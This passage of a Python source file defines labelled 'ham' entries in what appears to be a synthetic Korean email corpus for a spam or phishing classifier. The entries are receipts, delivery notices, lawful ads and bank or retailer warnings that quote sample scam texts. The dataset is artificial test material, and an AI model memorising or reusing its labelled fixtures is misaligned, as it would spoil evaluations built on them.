<span style="color:#888;font-size:11px;">본 메일은 여신전문금융업법 및 관련 감독규정에 따른 포인트 소멸 사전 고지입니다. 삼성카드 고객센터 1588-8700</span>
</td></tr></table></body></html>
''')

M('ham', '네이버페이 결제 완료 영수증 (스마트스토어 구매)',
  frm=('네이버페이', 'naverpay_noreply@navercorp.com'), to=[YR], prov='inhouse', cs='UTF-8', cte='quoted-printable',
  mailer=None, selector='npay', when=(10, 3, 22, 18),
  subj='[네이버페이] 결제가 완료되었습니다 - 무선 가습기 외 1건',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:'Nanum Gothic',sans-serif;font-size:13px;">
<div style="width:540px;margin:0 auto;border:1px solid #e5e5e5;padding:24px;">
<p style="color:#03c75a;font-weight:bold;font-size:16px;">N Pay 결제 완료</p>
<p>서예린님, 주문하신 상품의 결제가 완료되었습니다.</p>
<table style="width:100%;font-size:13px;border-collapse:collapse;">
<tr><td style="padding:6px 0;color:#888;">주문번호</td><td>2026100321843275</td></tr>
<tr><td style="padding:6px 0;color:#888;">판매자</td><td>홈리빙 데일리</td></tr>
<tr><td style="padding:6px 0;color:#888;">상품</td><td>초음파 무선 가습기 3L (화이트) 외 1건</td></tr>
<tr><td style="padding:6px 0;color:#888;">결제금액</td><td><b>47,800원</b> (포인트 1,200원 사용)</td></tr>
<tr><td style="padding:6px 0;color:#888;">결제수단</td><td>네이버페이 머니</td></tr>
</table>
<p style="font-size:12px;color:#888;">배송 및 취소 문의는 네이버페이 주문내역에서 판매자에게 문의해 주세요.</p>
</div></body></html>
''')

M('ham', 'KG이니시스 신용카드 매출전표(구매 영수증) 발송 메일 - 온라인 강의 결제',
  frm=('KG이니시스', 'receipt@inicis.com'), to=[HW], prov='inhouse', cs='euc-kr', cte='base64', mailer='INIpay Mailer',
  selector='ini', when=(9, 2, 20, 51),
  subj='[KG이니시스] 신용카드 매출전표 - (주)데이터캠프',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="420" border="1" cellspacing="0" cellpadding="5" style="font-family:굴림;font-size:12px;border-collapse:collapse;">
<tr><td colspan="2" align="center" bgcolor="#eeeeee"><b>신용카드 매출전표</b></td></tr>
<tr><td width="35%">카드종류</td><td>삼성카드</td></tr>
<tr><td>카드번호</td><td>5310-****-****-2211</td></tr>
<tr><td>거래일시</td><td>2026-09-02 20:50:37</td></tr>
<tr><td>승인번호</td><td>31887205</td></tr>
<tr><td>거래유형</td><td>승인 / 일시불</td></tr>
<tr><td>상품명</td><td>파이썬 데이터 분석 올인원 패키지</td></tr>
<tr><td>공급가액</td><td>180,000원</td></tr>
<tr><td>부가세</td><td>18,000원</td></tr>
<tr><td>합계</td><td><b>198,000원</b></td></tr>
<tr><td>가맹점명</td><td>(주)데이터캠프</td></tr>
</table>
<p style="font-family:굴림;font-size:11px;color:#666;">본 메일은 결제대행사 KG이니시스에서 발송한 매출전표입니다.</p>
</body></html>
''')

M('ham', '하나은행이 고객에게 보내는 보이스피싱·메신저피싱 예방 안내 (예시 문구 인용)',
  frm=('하나은행', 'hanabank@hanabank.com'), to=[GS], prov='inhouse', cs='euc-kr', mailer=None, selector='hana',
  when=(9, 25, 14, 30),
  subj='[하나은행] 추석 연휴 금융사기 피해 예방 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<div style="width:600px;margin:0 auto;font-family:'맑은 고딕';font-size:13px;line-height:1.8;">
<p style="font-size:16px;color:#008485;"><b>추석 연휴 금융사기 주의 안내</b></p>
<p>권기석 손님, 명절 전후로 택배·선물 배송이나 가족을 사칭한 금융사기가 크게 늘어납니다.</p>
<p><b>이런 문자, 이런 메일은 100% 사기입니다.</b></p>
<ul>
<li>"엄마 나 폰 액정 깨져서 임시폰이야. 급하게 문화상품권 좀 사줄 수 있어?"</li>
<li>"[추석 선물] 배송지 주소가 불일치합니다. 주소 확인: (인터넷주소)"</li>
<li>"고객님 명의로 대출이 신청되었습니다. 본인이 아닌 경우 아래 번호로 연락 주세요."</li>
</ul>
<p>하나은행은 어떠한 경우에도 문자나 메일로 원격제어 앱 설치, 현금 인출, 다른 계좌로의 이체를 요구하지 않습니다.<br>
피해가 의심되면 즉시 하나은행 고객센터(1599-1111) 또는 112로 지급정지를 요청하세요.</p>
</div></body></html>
''')

# ---- shopping / delivery -------------------------------------------------
M('ham', '쿠팡 주문 완료 안내 (coupang.com, 로켓배송 도착 예정일 포함)',
  frm=('쿠팡', 'coupang@coupang.com'), to=[PM], prov='inhouse', cs='UTF-8', cte='base64', mailer=None,
  selector='cpmail', when=(10, 2, 21, 4),
  subj='[쿠팡] 주문이 완료되었습니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:'Apple SD Gothic Neo',sans-serif;font-size:14px;">
<div style="max-width:600px;margin:0 auto;">
<p style="font-size:20px;font-weight:bold;">주문이 완료되었습니다</p>
<p>장미경님, 쿠팡을 이용해 주셔서 감사합니다.</p>
<table style="width:100%;border-top:2px solid #333;border-collapse:collapse;font-size:13px;">
<tr><td style="padding:8px;border-bottom:1px solid #eee;">주문번호</td><td style="padding:8px;border-bottom:1px solid #eee;">2100154382761</td></tr>
<tr><td style="padding:8px;border-bottom:1px solid #eee;">상품</td><td style="padding:8px;border-bottom:1px solid #eee;">진주식품 수제 육포 오리지널 150g x 2개</td></tr>
<tr><td style="padding:8px;border-bottom:1px solid #eee;">결제금액</td><td style="padding:8px;border-bottom:1px solid #eee;">25,800원 (쿠페이 머니)</td></tr>
<tr><td style="padding:8px;border-bottom:1px solid #eee;">도착예정</td><td style="padding:8px;border-bottom:1px solid #eee;">내일(금) 10/3 새벽 도착 보장</td></tr>
</table>
<p style="font-size:12px;color:#888;">쿠팡은 주문·배송 관련하여 별도의 결제를 요구하는 문자를 보내지 않습니다.<br>쿠팡(주) | 서울시 송파구 송파대로 570 | 고객센터 1577-7011</p>
</div></body></html>
''')

M('ham', '쿠팡이 직접 보내는 "쿠팡 사칭 문자/메일 주의" 공지 (피싱 문구 예시 포함)',
  frm=('쿠팡', 'notice@coupang.com'), to=[YR], prov='inhouse', cs='UTF-8', mailer=None, selector='cpmail',
  when=(11, 6, 11, 0),
  subj='[쿠팡] 쿠팡을 사칭한 스미싱·피싱에 주의하세요',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;line-height:1.7;">
<div style="max-width:600px;margin:0 auto;">
<h2 style="font-size:19px;">쿠팡 사칭 피싱 주의 안내</h2>
<p>최근 쿠팡을 사칭하여 "결제 오류", "계정 정지", "환불 대상" 등을 이유로 가짜 사이트 접속을 유도하는 문자와 메일이 확인되고 있습니다.</p>
<p style="background:#f5f5f5;padding:12px;">예시) [쿠팡] 고객님 계정에서 비정상 결제가 감지되어 이용이 제한되었습니다. 본인 확인: coupang-○○○.com</p>
<ul>
<li>쿠팡의 공식 주소는 coupang.com 입니다.</li>
<li>쿠팡은 문자나 메일로 카드번호, 비밀번호, 인증번호 입력을 요구하지 않습니다.</li>
<li>의심 문자는 118(한국인터넷진흥원)로 신고해 주세요.</li>
</ul>
<p>쿠팡 고객센터 1577-7011</p></div></body></html>
''')

M('ham', 'CJ대한통운 배송 예정 안내 (송장번호, 실제 도메인 cjlogistics.com)',
  frm=('CJ대한통운', 'noreply@cjlogistics.com'), to=[GS], prov='inhouse', cs='euc-kr', cte='base64', mailer=None,
  selector='cjl', when=(11, 24, 7, 40),
  subj='[CJ대한통운] 고객님의 상품이 오늘 배송될 예정입니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="560" cellpadding="10" style="font-family:'맑은 고딕';font-size:13px;border:1px solid #ddd;">
<tr><td style="border-bottom:3px solid #0073e9;"><b style="color:#0073e9;font-size:15px;">CJ대한통운</b> 배송 안내</td></tr>
<tr><td>권기석 고객님, 주문하신 상품이 오늘 배송될 예정입니다.<br><br>
운송장번호 : 6851-****-2290<br>
보내는 분 : 동해수산<br>
상품명 : 반건조 오징어 선물세트<br>
배송예정 : 11월 24일(화) 14~18시<br>
담당 기사 : 서울 마포 망원 대리점 (연락처는 배송 출발 시 문자 안내)<br><br>
배송 조회는 CJ대한통운 홈페이지 또는 앱에서 운송장번호로 하실 수 있습니다.<br>
<span style="color:#888;font-size:11px;">CJ대한통운은 주소 변경이나 배송비 결제를 이유로 URL을 보내지 않습니다.</span>
</td></tr></table></body></html>
''')

M('ham', '우체국택배 방문 시 부재로 인한 보관 및 재배달 신청 안내 (epost.go.kr, 정상)',
  frm=('우체국택배', 'epost@epost.go.kr'), to=[YR], prov='inhouse', cs='euc-kr', cte='8bit', mailer=None, dkim=False,
  when=(11, 17, 16, 25),
  subj='[우체국택배] 부재로 인해 배달하지 못했습니다 (등기번호 60914*****422)',
  text='''서예린 고객님, 우체국입니다.

오늘(11/17) 14시 32분 방문하였으나 부재중으로 배달하지 못하였습니다.

  등기번호 : 60914*****422
  보내는 분 : 국민건강보험공단
  우편물 종류 : 등기통상
  보관 우체국 : 서울망원동우체국 (☎ 02-332-****)

재배달은 우편물 도착 안내서에 적힌 방법 또는 우체국 홈페이지(www.epost.go.kr),
우체국 앱에서 신청하실 수 있으며, 보관기간(7일) 경과 시 발송인에게 반송됩니다.

※ 우체국은 문자·메일로 개인정보 입력이나 수수료 결제를 요구하지 않습니다.
''')

M('ham', '한진택배 반품 회수 예정 안내 (hanjin.com, 짧은 알림)',
  frm=('한진택배', 'delivery@hanjin.com'), to=[PM], prov='inhouse', cs='UTF-8', cte='quoted-printable', mailer=None,
  selector='hj', when=(10, 10, 9, 5),
  subj='[한진택배] 반품 상품 회수 예정 안내',
  text='''장미경 고객님 안녕하세요. 한진택배입니다.

판매처 요청에 따라 반품 상품 회수를 진행할 예정입니다.

- 판매처: 홈리빙 데일리
- 회수 예정일: 10월 12일(월)
- 회수지: 고객님께서 반품 접수 시 입력하신 주소

상품은 받으셨던 상태 그대로 포장해 문 앞에 두시면 기사님이 회수합니다.
회수 일정 변경은 판매처 또는 한진택배 고객센터(1588-0011)로 문의해 주세요.
''')

M('ham', 'G마켓 주문 취소 및 환불 완료 안내 (gmarket.co.kr)',
  frm=('G마켓', 'gmarket@gmarket.co.kr'), to=[HW], prov='inhouse', cs='euc-kr', mailer=None, selector='gm',
  when=(9, 19, 15, 3),
  subj='[G마켓] 취소가 완료되어 환불해 드렸습니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<div style="width:600px;font-family:'맑은 고딕';font-size:13px;">
<p><b>류현우</b>님, 요청하신 주문 취소가 완료되었습니다.</p>
<p>주문번호 4127730918 / 블루투스 키보드 K380 (그레이)<br>
취소 사유: 단순 변심<br>환불 금액: 39,900원 → 스마일카드 승인취소 (카드사 사정에 따라 3~5영업일 소요)</p>
<p style="font-size:11px;color:#888;">본 메일은 발신 전용입니다. G마켓 고객센터 1566-5701</p>
</div></body></html>
''')

M('ham', '배달의민족 주문 영수증 (woowahan.com, UTF-8 QP)',
  frm=('배달의민족', 'noreply@woowahan.com'), to=[YR], prov='ses', when=(10, 24, 19, 36),
  subj='[배달의민족] 주문하신 내역입니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:480px;margin:0 auto;">
<p style="color:#2ac1bc;font-weight:bold;font-size:18px;">배달의민족</p>
<p>주문이 접수되었어요. 맛있게 드세요!</p>
<p><b>망원동 엽떡 본점</b><br>엽기떡볶이 (오리지널, 보통맛) 1개 14,000원<br>모둠튀김 1개 4,000원<br>배달팁 3,000원</p>
<p>쿠폰 할인 -3,000원<br><b>결제금액 18,000원</b> (배민페이)</p>
<p style="font-size:12px;color:#999;">주문번호 B1TX02AB3K | (주)우아한형제들</p>
</div></body></html>
''')

M('ham', '컬리 샛별배송 주문 확인 (kurly.com)',
  frm=('컬리', 'no-reply@kurly.com'), to=[PM], prov='sendgrid', when=(11, 21, 22, 55),
  subj='[컬리] 주문이 접수되었습니다 (내일 아침 7시 전 도착)',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;">
<div style="max-width:600px;margin:0 auto;font-size:14px;">
<p style="color:#5f0080;font-size:20px;font-weight:bold;">Kurly</p>
<p>장미경님, 주문해 주셔서 감사합니다. 샛별배송으로 내일 아침 7시 전에 도착합니다.</p>
<ul><li>유기농 우유 900ml x 2</li><li>무항생제 유정란 15구</li><li>제주 감귤 2kg</li><li>한우 국거리 300g</li></ul>
<p>결제금액 <b>58,340원</b> (컬리페이)</p>
<p style="font-size:12px;color:#999;">주문 변경·취소는 배송 준비 전까지 앱에서 가능합니다.</p>
</div></body></html>
''')

M('ham', '인터파크 티켓 뮤지컬 예매 확인 (interpark.com, 입금 기한 있는 무통장 예매)',
  frm=('인터파크 티켓', 'ticket@interpark.com'), to=[YR], prov='inhouse', cs='euc-kr', mailer=None, selector='ipk',
  when=(10, 30, 11, 15),
  subj='[인터파크 티켓] 예매가 완료되었습니다 - 뮤지컬 <레미제라블>',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="600" cellpadding="8" style="font-family:'맑은 고딕';font-size:13px;border:1px solid #eee;">
<tr><td style="background:#ef3e42;color:#fff;"><b>INTERPARK TICKET 예매 확인</b></td></tr>
<tr><td>서예린 고객님, 예매가 정상적으로 접수되었습니다.<br><br>
공연명 : 뮤지컬 &lt;레미제라블&gt;<br>
일시 : 2026년 12월 19일(토) 14:00<br>
장소 : 블루스퀘어 신한카드홀<br>
좌석 : R석 1층 C구역 9열 14, 15<br>
예매번호 : T18827****<br>
결제방법 : 무통장입금 (입금기한 2026-10-31 23:59 까지)<br>
입금액 : 280,000원 (티켓 2매 + 예매수수료 2,000원)<br><br>
입금 계좌는 예매 시 발급된 가상계좌(본인 전용)이며, 기한 내 미입금 시 자동 취소됩니다.
</td></tr></table></body></html>
''')

M('ham', '당근 중고거래 채팅 알림 이메일 (daangn.com, 짧음)',
  frm=('당근', 'noreply@daangn.com'), to=[HW], prov='ses', when=(10, 11, 20, 2),
  subj='유모차 판매 글에 새 채팅이 왔어요',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:15px;">
<div style="max-width:420px;margin:0 auto;">
<p style="color:#ff6f0f;font-weight:bold;">당근</p>
<p><b>망원동 이웃 "초코맘"</b>님이 채팅을 보냈어요.</p>
<p style="background:#f2f3f6;border-radius:12px;padding:12px;">안녕하세요~ 유모차 아직 있나요? 내일 오전에 직거래 가능할까요?</p>
<p>앱에서 답장해 보세요. 거래 전 판매자·구매자 매너온도와 거래 후기를 확인하세요.</p>
<p style="font-size:12px;color:#999;">당근은 외부 메신저나 링크를 통한 안전결제를 안내하지 않아요.</p>
</div></body></html>
''')

M('ham', '11번가 반품 환불 처리 완료와 SK페이 포인트 적립 안내 (11st.co.kr)',
  frm=('11번가', 'help@11st.co.kr'), to=[GS], prov='inhouse', cs='euc-kr', cte='quoted-printable', mailer=None,
  selector='st11', when=(11, 9, 14, 47),
  subj='[11번가] 반품 환불이 완료되었습니다',
  text='''권기석 고객님, 11번가를 이용해 주셔서 감사합니다.

요청하신 반품 건의 환불이 완료되었습니다.

  주문번호 : 20261102-0*****58
  상품명 : 남성 경량 패딩 조끼 (네이비, 105)
  환불금액 : 34,900원
  환불수단 : 신용카드 승인취소 (영업일 기준 3~5일 내 카드사 반영)
  반품배송비 : 판매자 부담

11번가 고객센터 1599-0110
''')


# ===========================================================================
# HAM - lawful advertising, newsletters, school, church/club, apartment
# ===========================================================================
def optout(company, addr, phone, url, consent_date):
    return ('<p style="font-size:11px;color:#999;line-height:1.6;">본 메일은 %s 기준 광고성 정보 수신에 동의하신 회원님께 발송되었습니다. '
            '수신을 원하지 않으시면 <a href="%s" style="color:#999;">[수신거부]</a>를 클릭해 주세요. '
            '(정보통신망 이용촉진 및 정보보호 등에 관한 법률 제50조)<br>%s | %s | 고객센터 %s</p>'
            % (consent_date, url, company, addr, phone))


M('ham', '(광고) 예스24 연말 도서 할인 및 적립금 이벤트 - 합법 광고, 수신거부 링크 (EUC-KR)',
  frm=('YES24', 'yes24@yes24.com'), to=[YR], prov='inhouse', cs='euc-kr', mailer='Humuson iMailer', selector='y24',
  when=(11, 20, 11, 0),
  list=dict(url='https://www.yes24.com/Member/Unsubscribe?mid=9a71c2&type=mail', mailto='unsubscribe@yes24.com'),
  subj='(광고) [YES24] 올해의 책 발표 + 연말 결산 적립금 최대 5천원',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="margin:0;"><table width="700" align="center" cellpadding="0" cellspacing="0" style="font-family:'맑은 고딕';">
<tr><td style="padding:20px;background:#2b5ba8;color:#fff;font-size:22px;font-weight:bold;">2026 YES24 올해의 책</td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:1.7;">
독자 투표로 선정된 올해의 책 24권을 발표합니다.<br>
발표 기념으로 올해의 책 포함 3만원 이상 구매 시 <b>적립금 3,000원</b>, 5만원 이상 구매 시 <b>5,000원</b>을 드려요.<br>
(이벤트 기간: 11월 20일 ~ 12월 15일 / 적립금 유효기간 지급일로부터 14일)<br><br>
<a href="https://event.yes24.com/2026bestbook" style="background:#2b5ba8;color:#fff;padding:10px 20px;text-decoration:none;">올해의 책 보러가기</a>
</td></tr>
<tr><td style="padding:0 20px 20px;">''' + optout('예스이십사(주)', '서울시 영등포구 은행로 11', '1544-3800',
                                              'https://www.yes24.com/Member/Unsubscribe?mid=9a71c2&type=mail', '2024년 3월 2일') +
  '''</td></tr></table></body></html>
''')

M('ham', '(광고) 대한항공 스카이패스 회원 대상 국제선 특가 안내 - 합법 광고 (Mailchimp형 발송, List-Unsubscribe)',
  frm=('대한항공', 'skypass@koreanair.com'), to=[GS], prov='mailchimp', when=(9, 10, 10, 30),
  list=dict(url='https://www.koreanair.com/unsubscribe?e=gskwon%40haneul-mail.test&c=2609', mailto='unsubscribe@koreanair.com'),
  subj='(광고) 겨울 유럽 여행, 대한항공 온라인 특가로 준비하세요',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="margin:0;background:#eef3f9;">
<div style="max-width:640px;margin:0 auto;background:#fff;font-family:sans-serif;">
<div style="background:#00256c;color:#fff;padding:24px;font-size:20px;">KOREAN AIR</div>
<div style="padding:24px;font-size:14px;line-height:1.7;color:#222;">
<p>권기석 회원님, 겨울 시즌 유럽 노선 온라인 특가를 안내드립니다.</p>
<table style="width:100%;font-size:14px;border-collapse:collapse;">
<tr><td style="padding:6px;border-bottom:1px solid #ddd;">인천 - 파리</td><td style="padding:6px;border-bottom:1px solid #ddd;">왕복 총액 1,189,000원~</td></tr>
<tr><td style="padding:6px;border-bottom:1px solid #ddd;">인천 - 프라하</td><td style="padding:6px;border-bottom:1px solid #ddd;">왕복 총액 1,054,000원~</td></tr>
<tr><td style="padding:6px;border-bottom:1px solid #ddd;">인천 - 로마</td><td style="padding:6px;border-bottom:1px solid #ddd;">왕복 총액 1,142,000원~</td></tr>
</table>
<p style="font-size:12px;color:#666;">판매기간 9월 10일 ~ 9월 24일 / 탑승기간 12월 1일 ~ 2027년 2월 28일. 총액은 유류할증료 및 세금 포함이며 환율과 유류할증료 변동에 따라 달라질 수 있습니다.</p>
<p><a href="https://www.koreanair.com/promotion/2026-winter-europe">특가 항공권 보기</a></p>
</div>''' + optout('(주)대한항공', '서울특별시 강서구 하늘길 260', '1588-2001',
                   'https://www.koreanair.com/unsubscribe?e=gskwon%40haneul-mail.test&c=2609', '2023년 7월 14일') +
  '''</div></body></html>
''')

M('ham', '(광고) 야놀자 주말 국내 숙소 쿠폰 - 모바일 최적화 HTML, 합법 광고',
  frm=('야놀자', 'newsletter@yanolja.com'), to=[YR], prov='sendgrid', when=(11, 12, 12, 0),
  list=dict(url='https://www.yanolja.com/unsubscribe?token=7Yz2kQ', mailto='unsubscribe@yanolja.com'),
  subj='(광고) 이번 주말 어디 가요? 최대 50% 숙소 쿠폰 도착',
  html='''<!doctype html><html><head><meta charset="{CHARSET}"><meta name="viewport" content="width=device-width,initial-scale=1"></head>
<body style="margin:0;background:#fff;"><div style="max-width:480px;margin:0 auto;font-family:-apple-system,sans-serif;color:#1a1a1a;">
<div style="background:#ff3478;color:#fff;padding:28px 20px;"><p style="font-size:24px;font-weight:800;margin:0;">주말 특가 쿠폰팩</p><p style="margin:6px 0 0;">펜션·호텔·글램핑 최대 50%</p></div>
<div style="padding:20px;font-size:15px;line-height:1.6;">
<p>서예린님을 위해 준비한 이번 주 인기 숙소</p>
<p>📍 강릉 경포 오션뷰 호텔 89,000원~<br>📍 가평 프라이빗 풀빌라 179,000원~<br>📍 제주 애월 감성 스테이 112,000원~</p>
<p><a href="https://www.yanolja.com/promotion/weekend-coupon" style="display:block;background:#ff3478;color:#fff;text-align:center;padding:14px;border-radius:8px;text-decoration:none;">쿠폰 받기</a></p>
<p style="font-size:12px;color:#999;">쿠폰은 11월 15일 23:59까지 사용 가능하며 일부 숙소는 제외됩니다.</p>
</div>''' + optout('야놀자(주)', '서울특별시 강남구 테헤란로 108길 42', '1644-1346',
                   'https://www.yanolja.com/unsubscribe?token=7Yz2kQ', '2025년 5월 9일') +
  '''</div></body></html>
''')

M('ham', '(광고) 온라인 교육 플랫폼 블랙프라이데이 강의 할인 (fastcampus, UTF-8 base64)',
  frm=('패스트캠퍼스', 'hello@fastcampus.co.kr'), to=[HW], prov='stibee', when=(11, 23, 19, 0),
  list=dict(url='https://fastcampus.co.kr/unsubscribe?uid=hwryu&ch=email', mailto='unsubscribe@fastcampus.co.kr'),
  subj='(광고) 블랙프라이데이 단 7일, 전 강의 최대 64% 할인',
  html='''<html><head><meta charset="{CHARSET}"></head><body>
<div style="max-width:600px;margin:0 auto;font-family:'Pretendard',sans-serif;">
<div style="background:#000;color:#fff;padding:32px 24px;"><p style="font-size:28px;font-weight:900;margin:0;">BLACK FRIDAY</p><p style="font-size:16px;">11.23 ~ 11.29 단 7일</p></div>
<div style="padding:24px;font-size:15px;line-height:1.7;">
<p>류현우님, 올해 마지막 최대 할인이에요.</p>
<p>✔ 데이터 분석·AI 강의 최대 64%<br>✔ 2개 이상 결제 시 추가 10% 쿠폰<br>✔ 수강 완료 시 수강료 일부 환급 챌린지</p>
<p><a href="https://fastcampus.co.kr/event/blackfriday2026">할인 강의 보러가기</a></p>
<p style="font-size:12px;color:#888;">본 광고는 야간(21시~08시) 수신에 동의하지 않은 회원에게는 발송되지 않습니다.</p>
</div>''' + optout('(주)데이원컴퍼니', '서울특별시 강남구 테헤란로 231', '02-501-9396',
                   'https://fastcampus.co.kr/unsubscribe?uid=hwryu&ch=email', '2026년 8월 21일') +
  '''</div></body></html>
''')

M('ham', '(광고) 손해보험사 다이렉트 자동차보험 만기 갱신 안내 - 보험 광고 심의필 번호 포함',
  frm=('삼성화재 다이렉트', 'direct@samsungfire.com'), to=[GS], prov='inhouse', cs='euc-kr', mailer='SF Mail',
  selector='sfm', when=(10, 19, 10, 0),
  list=dict(url='https://direct.samsungfire.com/mail/reject.do?k=3fa91', mailto='reject@samsungfire.com'),
  subj='(광고) 권기석님, 자동차보험 만기가 30일 남았습니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="620" align="center" cellpadding="16" style="font-family:'맑은 고딕';font-size:13px;border:1px solid #e0e6f0;">
<tr><td style="background:#0a3a8c;color:#fff;font-size:16px;"><b>삼성화재 다이렉트 착</b></td></tr>
<tr><td style="line-height:1.8;">권기석님의 자동차보험 만기일(2026년 11월 18일)이 다가오고 있습니다.<br>
다이렉트로 갱신하시면 설계사 채널 대비 평균 17% 저렴하며, 마일리지 특약 가입 시 추가 할인이 가능합니다.<br><br>
예상 보험료는 차량·운전자 조건에 따라 달라지며, 홈페이지 또는 앱에서 1분 만에 조회하실 수 있습니다.<br><br>
<span style="font-size:11px;color:#666;">※ 보험계약자는 보험상품 가입 전 상품설명서 및 약관을 반드시 읽어보시기 바랍니다.<br>
※ 이 보험계약은 예금자보호법에 따라 예금보험공사가 보호하되, 보호 한도는 1인당 최고 1억원이며 이를 초과하는 나머지 금액은 보호하지 않습니다.<br>
손해보험협회 심의필 제2026-05***호 (2026.10.02 ~ 2027.10.01)</span>
</td></tr>
<tr><td>''' + optout('삼성화재해상보험(주)', '서울특별시 서초구 서초대로74길 14', '1566-0300',
                   'https://direct.samsungfire.com/mail/reject.do?k=3fa91', '2022년 11월 10일') +
  '''</td></tr></table></body></html>
''')

M('ham', '(광고) 증권사 투자 세미나 초대 - 합법 금융 광고, 투자위험 고지 (리딩방 스팸과 헷갈리는 정상)',
  frm=('키움증권', 'event@kiwoom.com'), to=[HW], prov='inhouse', cs='UTF-8', cte='base64', mailer=None, selector='kw',
  when=(11, 5, 16, 0),
  list=dict(url='https://www.kiwoom.com/h/customer/mail/reject?mid=KW2611', post=True),
  subj='(광고) [키움증권] 2027 투자전략 온라인 세미나 무료 초대',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:620px;margin:0 auto;">
<div style="background:#8c1d3f;color:#fff;padding:20px;font-size:18px;font-weight:bold;">2027 투자전략 온라인 세미나</div>
<div style="padding:20px;line-height:1.7;">
<p>리서치센터 애널리스트가 2027년 국내외 증시 전망과 업종별 투자 포인트를 소개합니다.</p>
<p>일시: 2026년 11월 26일(목) 19:30 ~ 21:00 (유튜브 라이브)<br>
참가비: 무료 (사전 신청자 대상 질의응답 우선 선정)</p>
<p><a href="https://www.kiwoom.com/h/event/seminar2027">세미나 신청하기</a></p>
<p style="font-size:11px;color:#777;">※ 투자자는 금융투자상품에 대하여 키움증권으로부터 충분한 설명을 받을 권리가 있으며, 투자 전 설명서 및 약관을 반드시 읽어보시기 바랍니다.<br>
※ 금융투자상품은 자산가격 변동 등에 따라 원금 손실(0~100%)이 발생할 수 있으며, 그 손실은 투자자에게 귀속됩니다.<br>
※ 키움증권은 유료 리딩방을 운영하지 않으며, 당사 직원을 사칭한 종목 추천에 주의하시기 바랍니다.<br>
한국금융투자협회 심사필 제26-0*****호</p>
</div>''' + optout('키움증권(주)', '서울특별시 영등포구 의사당대로 96', '1544-9000',
                   'https://www.kiwoom.com/h/customer/mail/reject?mid=KW2611', '2025년 2월 3일') +
  '''</div></body></html>
''')

M('ham', '(광고) 패션 플랫폼 블랙프라이데이 - 이미지 위주 HTML에 인라인 배너, 합법 광고',
  frm=('무신사', 'news@musinsa.com'), to=[YR], prov='ses', when=(11, 18, 12, 0),
  list=dict(url='https://www.musinsa.com/member/unsubscribe?t=ad&u=yr2211', mailto='unsubscribe@musinsa.com'),
  subj='(광고) 무진장 블랙프라이데이 D-1, 알림 신청하고 쿠폰 받기',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="margin:0;">
<div style="max-width:600px;margin:0 auto;text-align:center;font-family:sans-serif;">
<a href="https://www.musinsa.com/campaigns/blackfriday2026"><img src="cid:bf_banner_01" width="600" alt="무진장 블랙프라이데이 11.19 OPEN" style="display:block;border:0;"></a>
<p style="font-size:16px;font-weight:bold;">11월 19일 오전 10시 오픈</p>
<p style="font-size:14px;">알림 신청 회원 전원 15% 장바구니 쿠폰 증정</p>
</div>
<div style="max-width:600px;margin:0 auto;">''' + optout('(주)무신사', '서울특별시 성동구 성수동2가 (생략)', '1544-7199',
                                                            'https://www.musinsa.com/member/unsubscribe?t=ad&u=yr2211', '2024년 11월 1일') +
  '''</div></body></html>
''',
  inline=[att('bf_banner_01.png', png_banner('musinsa', 300, 150, bg=(0, 0, 0), fg=(255, 255, 255)), 'image/png',
              disp='inline', cid='bf_banner_01')])

M('ham', '(광고) 드럭스토어 멤버십 세일 안내 - 합법 광고, EUC-KR',
  frm=('올리브영', 'oliveyoung@oliveyoung.co.kr'), to=[PM], prov='inhouse', cs='euc-kr', mailer='CJ OY Mailer',
  selector='oy', when=(11, 27, 10, 0),
  list=dict(url='https://www.oliveyoung.co.kr/store/mypage/mailReject.do?k=mk7710', post=True),
  subj='(광고) 올영세일 12월 1일 시작! 회원 전용 추가 쿠폰',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="600" align="center" style="font-family:'맑은 고딕';font-size:14px;">
<tr><td style="background:#9bce26;color:#fff;padding:22px;font-size:22px;"><b>올영세일</b> 12.1 - 12.7</td></tr>
<tr><td style="padding:18px;line-height:1.7;">장미경 회원님, 연중 가장 큰 올영세일이 곧 시작됩니다.<br>
GREEN 등급 회원님께 <b>2만원 이상 구매 시 3천원 할인 쿠폰</b>을 미리 드려요.<br>
쿠폰은 올리브영 앱 &gt; 마이페이지 &gt; 쿠폰함에서 확인하실 수 있습니다.</td></tr>
<tr><td>''' + optout('CJ올리브영(주)', '서울특별시 용산구 한강대로 372', '1577-4887',
                   'https://www.oliveyoung.co.kr/store/mypage/mailReject.do?k=mk7710', '2023년 4월 18일') +
  '''</td></tr></table></body></html>
''')

M('ham', '(광고) 동네 필라테스 스튜디오의 신규 회원 할인 - 스티비로 발송한 소규모 합법 광고',
  frm=('숨필라테스 망원점', 'soom.pilates@gmail.com'), to=[YR], prov='stibee', when=(9, 7, 9, 30),
  list=dict(url='https://stibee.com/api/v1.0/lists/unsubscribe/soompilates?e=yerin.seo', post=True),
  subj='(광고) 숨필라테스 9월 신규 회원 1:1 체험 1회 무료',
  html='''<html><head><meta charset="{CHARSET}"></head><body>
<div style="max-width:560px;margin:0 auto;font-family:sans-serif;font-size:15px;line-height:1.7;color:#333;">
<p style="font-size:20px;font-weight:bold;">가을엔 몸도 마음도 가볍게 🌿</p>
